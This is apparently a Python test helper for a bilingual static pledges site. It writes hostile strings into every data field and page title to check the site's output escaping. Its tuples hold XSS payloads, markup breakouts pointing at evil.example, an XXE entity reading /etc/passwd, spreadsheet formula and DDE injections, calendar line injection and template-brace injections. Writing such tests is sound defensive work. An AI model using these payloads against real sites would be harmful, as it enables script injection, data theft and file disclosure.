"""The sample with texts that try to break out of everything that the site writes them into."""

from collections.abc import Iterator
from itertools import count
from pathlib import Path
from typing import Any

import yaml
from tests.building import PUBLICATION, ROOT, as_sample_project, copy_of_sample

from pledges.checks.survey import survey
from pledges.language.phrases import places
from pledges.pages.front import stub
from pledges.records.load import load
from pledges.records.texts import LANGS

# Each calls `ran()`, which a browser of the tests counts, or would spoil a kind of file.
MARKUP = (
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<img src=x onerror=ran()>",
    '"><img src=x onerror=ran()>',
    "'><svg onload=ran()>",
    "<svg/onload=ran()>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</style><script>ran()</script>",
    "</svg></math><img src=x onerror=ran()>",
    "</template></noscript><img src=x onerror=ran()>",
    "<math><mtext></p><style><img src=x onerror=ran()></style>",
    '" onmouseover="ran()" x="',
    "' onfocus='ran()' autofocus='",
    "` onclick=ran() `",
    '" style="position:fixed;inset:0" x="',
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data=javascript:ran()></object>",
    "<a href=javascript:ran()>a</a>",
    "<a href='java&Tab;script:ran()'>a</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<form action=//evil.example/><button autofocus>a</button></form>",
    "<input onfocus=ran() autofocus>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<body onload=ran()>",
    "<!--><script>ran()</script>-->",
    "<!-- --!><img src=x onerror=ran()>",
    "--><script>ran()</script><!--",
    "<![CDATA[<script>ran()</script>]]>",
    "]]><script>ran()</script>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;ran()",
    "<x-own id=__config></x-own><form id=__search name=body>",
)
MARKDOWN = (
    "[a](javascript:ran())",
    "![a](x onerror=ran())",
    "![a](https://evil.example/a.png)",
    "[a]: javascript:ran()",
    "<javascript:ran()>",
    "`code` **bold** _it_ ~~no~~",
    "# heading",
    "\\<script>ran()\\</script>",
    "* item | cell | cell",
    "a](javascript:ran()) [b",
    "<!-- pledges: glance -->",
    "<!-- pledges: source sample-plan -->",
    "[[1]] [^1] [x][y]",
)
# Braces would be places to fill in phrases, where an unknown one stops the build.
BRACES = (
    "{{ ran() }}",
    "{% raw %}",
    "${ran()} #{ran()}",
    "{: onclick=ran() }",
    "{#__config}",
    "\\end{document} @article{x, title={y}}",
    '"}]}; ran(); //',
)
SCRIPTS = (
    "';ran();//",
    '";ran();//',
    "\\';ran();//",
    "\\u003cscript>ran()",
    "`;ran();`",
    '","x":"y',
)
FORMULAS = (
    "=ran()",
    "+ran()",
    "-ran()",
    "@ran()",
    '=HYPERLINK("https://evil.example/","a")',
    "=cmd|' /C ran'!A",
    "%0D%0A=ran()",
    "＝ran()",
)
LINES = (
    "END:VEVENT BEGIN:VALARM ACTION:AUDIO END:VALARM",
    "\\nEND:VCALENDAR\\nBEGIN:VEVENT",
    ";VALUE=x:y,z;ATTACH:file:///etc/passwd",
    "a,b;c:d\\,e",
    "TY  - BOOK ER  - TY  - JOUR",
    "}, author = {x}, url = {javascript:ran()",
)
TEXTS = (*MARKUP, *MARKDOWN, *SCRIPTS, *FORMULAS, *LINES)
PHRASES = tuple(text for text in TEXTS if not places(text))
# Addresses that are sound by their form and must stay one value wherever they stand.
ADDRESSES = (
    "https://a.example/'onmouseover='ran()",
    "https://a.example/?b=c&d=e&lt;script&gt;",
    "https://a.example/%3Cscript%3Eran()%3C/script%3E",
    "https://a.example/a)](javascript:ran())",
    "https://a.example/{{ran()}}${ran()}",
    "https://user:word@a.example:8443/;=,+@-",
    "https://a.example/a,b;c#'--",
    "http://[2001:db8::1]/=ran()",
)
PROSE = {"ar", "en", "text", "title", "zero", "one", "two", "few", "many", "other", "variants"}
PLACED = {"url": ADDRESSES, "archived": ADDRESSES}


def project(folder: Path) -> Path:
    """The sample with the settings of the site and a hostile text in every field."""
    as_sample_project(copy_of_sample(folder), ROOT)
    for path in sorted((folder / "data").rglob("*.yml")):
        spoil(path)
    library = load(folder)
    for number, path in enumerate(sorted((folder / "docs/ar").rglob("*.md"))):
        place = path.relative_to(folder / "docs/ar").as_posix()
        for lang in LANGS:
            page = folder / "docs" / lang / place
            # The title of a figure is that of its record.
            figure = place.startswith("figures/") and path.stem in library.figures
            text = page.read_text(encoding="utf-8")
            new = stub(library, place, lang) if figure else with_title(text, number)
            page.write_text(new, encoding="utf-8")
    answer_all(folder)
    return folder


def answer_all(folder: Path) -> None:
    """Say of all that the check takes for a slip that it is meant, so that it is published."""
    found = survey(folder, PUBLICATION.today).problems
    told = {(one.file, one.code, str(one.values["word"])) for one in found}
    reason = {"ar": "كُتب لتجربة ما يضر.", "en": "Written to try what does harm."}
    answers = {
        f"answer-{number}": {"file": file, "rule": rule, "word": word, "reason": {**reason}}
        for number, (file, rule, word) in enumerate(sorted(told))
    }
    (folder / "data/meant.yml").write_text(yaml.safe_dump(answers), encoding="utf-8")


def with_title(text: str, number: int) -> str:
    """A page whose title breaks out of attributes and scripts; tags are refused there anyway."""
    harmful = [one for one in (*SCRIPTS, *MARKUP) if "<" not in one and one != TEXTS[-1]]
    payload = harmful[number % len(harmful)].replace("'", "''")
    lines = text.split("\n")
    for at, line in enumerate(lines):
        key, colon, value = line.partition(": ")
        if key in {"title", "description"} and colon:
            lines[at] = f"{key}: '{value.strip(chr(34)).replace(chr(39), chr(39) * 2)} {payload}'"
        if at and line == "---":
            break
    return "\n".join(lines)


def spoil(path: Path) -> None:
    """Write a hostile text into each text of a file, the same one in each language."""
    if path.stem in {"languages", "search"}:  # names that other programs know; single words
        return
    payloads = PHRASES if path.stem in {"words", "units"} else (*TEXTS, *BRACES)
    data = yaml.load(path.read_text(encoding="utf-8"), yaml.BaseLoader)  # noqa: S506 - texts only
    numbers = count(sum(map(ord, path.stem)))
    spoilt = harmed(data, "", payloads, numbers)
    path.write_text(yaml.safe_dump(spoilt, allow_unicode=True, sort_keys=False), encoding="utf-8")


def harmed(value: Any, key: str, payloads: tuple[str, ...], numbers: Iterator[int]) -> Any:
    """A value with a hostile text in each text of it."""
    if isinstance(value, dict):
        if value.keys() & {"ar", "en"}:
            # Languages share a number, for what they say is compared.
            number = next(numbers)
            return {k: harmed(v, k, payloads, iter([number] * 100)) for k, v in value.items()}
        return {k: harmed(v, k, payloads, numbers) for k, v in value.items()}
    if isinstance(value, list):
        return [harmed(entry, key, payloads, numbers) for entry in value]
    if key in PLACED:
        return PLACED[key][next(numbers) % len(PLACED[key])]
    if key not in PROSE:
        return value
    payload = payloads[next(numbers) % len(payloads)]
    return f"{payload} {value}" if payload in FORMULAS else f"{value} {payload}"
